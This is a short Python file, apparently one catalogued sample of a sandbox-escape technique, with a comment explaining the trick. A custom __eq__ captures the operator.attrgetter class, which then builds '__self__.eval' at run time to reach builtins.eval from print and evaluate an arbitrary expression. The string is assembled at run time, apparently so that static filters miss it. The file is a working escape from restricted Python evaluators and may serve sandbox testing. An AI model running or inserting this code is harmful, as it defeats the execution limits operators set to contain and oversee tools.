# family: computed
# Escape: comparisons are operands, so `probe == type(operator.attrgetter("x"))` is accepted; Python calls the
# tool's __eq__ with the attrgetter class, which the probe keeps. That class accepts attribute paths built at run
# time: "__self__" of print is the builtins module, ".eval" its eval.
import operator


class Probe:
    def __eq__(self, other):
        self.seen = other
        return True

    __hash__ = None


def tool(expression: str, word: str = "self"):
    probe = Probe()
    probe == type(operator.attrgetter("real"))
    evaluate = probe.seen("__" + word + "__.eval")(print)
    return evaluate(expression)
